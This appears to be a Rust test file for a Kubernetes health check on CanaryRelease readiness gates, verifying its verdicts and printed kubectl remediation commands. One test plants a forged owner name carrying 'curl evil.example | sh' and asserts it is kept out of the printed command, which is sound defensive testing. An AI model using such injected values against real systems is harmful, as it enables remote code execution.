//! Pods behind the gate of a CanaryRelease, held and forgotten, and revisions that are refused.

use super::*;

const RELEASE: &str = "/apis/weft.dev/v1alpha1/namespaces/shop/canaryreleases/web";

/// A pod of Deployment `web` whose containers have been ready for long.
pub(super) fn gated_for_long() -> Value {
    let mut pod = pod();
    pod["metadata"]["labels"] = json!({"pod-template-hash": "75f"});
    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet",
        "name": "web-75f", "controller": true}]);
    pod["spec"]["readinessGates"] = json!([{"conditionType": "weft.dev/released"}]);
    pod["status"]["conditions"] = json!([{"type": "ContainersReady", "status": "True",
        "lastTransitionTime": "2026-01-01T00:00:00Z"}]);
    pod
}

fn release(phase: &str) -> Value {
    json!({"metadata": {"name": "web", "namespace": "shop"},
        "spec": {"service": "web", "deployment": "web"},
        "status": {"phase": phase, "candidate": {"revision": "75f", "pods": 1}}})
}

/// Result and message of the check.
async fn gates(api: &FakeApi) -> (String, String) {
    let (_, report, _) = checked(api, WELL, &[]).await;
    let mut checks = report["checks"].as_array().unwrap().iter();
    let found = checks.find(|check| check["id"] == "release-gates").unwrap();
    let text = |field: &str| found[field].as_str().unwrap().to_owned();
    (text("result"), text("message"))
}

#[tokio::test]
async fn shut_gate_without_release_names_restart_of_deployment() {
    let api = healthy();
    api.put(POD, gated_for_long());
    let (result, message) = gates(&api).await;
    assert_eq!(result, "error", "{message}");
    let way_out = "shop/web-1; kubectl -n shop rollout restart deployment/web";
    assert!(message.ends_with(way_out), "{message}");
    // A release holds it, as long as there is a controller to open it.
    api.put(RELEASE, release("Progressing"));
    assert_eq!(gates(&api).await.0, "ok");
    let mut suspended = release("Progressing");
    suspended["spec"]["suspend"] = json!(true);
    let mut other = release("Progressing");
    other["spec"]["deployment"] = json!("cart");
    let refused = json!([{"type": "Accepted", "status": "False", "reason": "Invalid"}]);
    let mut unaccepted = release("Progressing");
    unaccepted["status"]["conditions"] = refused;
    for holds_nothing in [suspended, other, unaccepted, release("Idle")] {
        api.put(RELEASE, holds_nothing);
        assert_eq!(gates(&api).await.0, "error");
    }
    api.put(RELEASE, release("Progressing"));
    api.remove(&format!("{WEFT}/weft-controller"));
    assert_eq!(gates(&api).await.0, "error", "nothing opens it");
}

#[tokio::test]
async fn printed_restart_holds_no_forged_owner_name() {
    let api = healthy();
    let mut forged = gated_for_long();
    forged["metadata"]["ownerReferences"][0]["name"] = json!("web; curl evil.example | sh #-75f");
    api.put(POD, forged);
    let (result, message) = gates(&api).await;
    assert_eq!(result, "error", "{message}");
    assert!(!message.contains("evil"), "{message}");
}

#[tokio::test]
async fn gate_that_opens_soon_or_is_open_is_well() {
    let api = healthy();
    let now = k8s_openapi::jiff::Timestamp::now().to_string();
    let mut young = gated_for_long();
    young["status"]["conditions"][0]["lastTransitionTime"] = json!(now);
    let mut open = gated_for_long();
    let condition = json!({"type": "weft.dev/released", "status": "True"});
    let conditions = open["status"]["conditions"].as_array_mut().unwrap();
    conditions.push(condition);
    let mut starting = gated_for_long();
    starting["status"]["conditions"][0]["status"] = json!("False");
    for well in [young, open, starting] {
        api.put(POD, well);
        let (result, message) = gates(&api).await;
        assert_eq!(
            (result.as_str(), message.as_str()),
            ("ok", "0 releases, 1 gated pods")
        );
    }
}

#[tokio::test]
async fn rolled_back_release_reports_how_many_pods_serve() {
    let api = healthy();
    api.put(RELEASE, release("RolledBack"));
    api.put(POD, gated_for_long());
    let mut stable = gated_for_long();
    stable["metadata"]["name"] = json!("web-2");
    stable["metadata"]["labels"]["pod-template-hash"] = json!("5d4");
    stable["metadata"]["ownerReferences"][0]["name"] = json!("web-5d4");
    stable["spec"]["readinessGates"] = json!([]);
    stable["status"]["conditions"] = json!([{"type": "Ready", "status": "True"}]);
    api.put(&POD.replace("web-1", "web-2"), stable);
    let mut proxy = proxy();
    proxy["metadata"]["name"] = json!("web-2");
    api.put(&PROXY.replace("web-1", "web-2"), proxy);
    let (result, message) = gates(&api).await;
    assert_eq!(result, "warning", "{message}");
    let words = "shop/web: 1 of 2 pods serve, 1 are of the refused revision 75f; \
                 kubectl -n shop rollout undo deployment/web";
    assert_eq!(message, words);
}

#[tokio::test]
async fn refused_revision_alone_is_an_error_that_names_undo() {
    let api = healthy();
    api.put(POD, gated_for_long());
    api.put(RELEASE, release("RolledBack"));
    let undo = "kubectl -n shop rollout undo deployment/web";
    let (result, message) = gates(&api).await;
    assert_eq!(result, "error", "{message}");
    assert!(message.ends_with(undo), "{message}");
    // A restart would be a new run of it, also where nothing opens gates.
    api.remove(&format!("{WEFT}/weft-controller"));
    let (result, message) = gates(&api).await;
    assert_eq!(result, "error", "{message}");
    assert!(message.ends_with(undo), "{message}");
}

#[tokio::test]
async fn refused_revision_that_serves_is_reported() {
    let api = healthy();
    let mut open = gated_for_long();
    let condition = json!({"type": "weft.dev/released", "status": "True"});
    let conditions = open["status"]["conditions"].as_array_mut().unwrap();
    conditions.push(condition);
    api.put(POD, open);
    let mut bypassed = release("Idle");
    let run = |result: &str| json!({"number": 3, "revision": "75f", "result": result, "reason": "spec.suspend is true"});
    bypassed["status"]["history"] = json!([run("Bypassed"), run("RolledBack")]);
    api.put(RELEASE, bypassed.clone());
    let words = "shop/web: refused revision 75f serves: spec.suspend is true; \
                 kubectl -n shop rollout undo deployment/web";
    let expected = ("warning".to_owned(), words.to_owned());
    assert_eq!(gates(&api).await, expected);
    bypassed["status"]["history"][0]["revision"] = json!("8ac");
    api.put(RELEASE, bypassed);
    assert_eq!(gates(&api).await.0, "ok", "another revision");
}

#[tokio::test]
async fn release_that_checks_nothing_is_a_warning() {
    for (kind, status, reason) in [
        ("ResolvedRefs", "False", "RefNotFound"),
        ("Accepted", "True", "NotEnforced"),
    ] {
        let api = healthy();
        let mut idle = release("Idle");
        idle["status"]["conditions"] = json!([{"type": kind, "status": status, "reason": reason,
            "message": "it checks nothing"}]);
        api.put(RELEASE, idle.clone());
        let expected = (
            "warning".to_owned(),
            "shop/web: it checks nothing".to_owned(),
        );
        assert_eq!(gates(&api).await, expected);
        idle["spec"]["suspend"] = json!(true);
        api.put(RELEASE, idle);
        assert_eq!(gates(&api).await.0, "ok", "that is meant");
    }
}
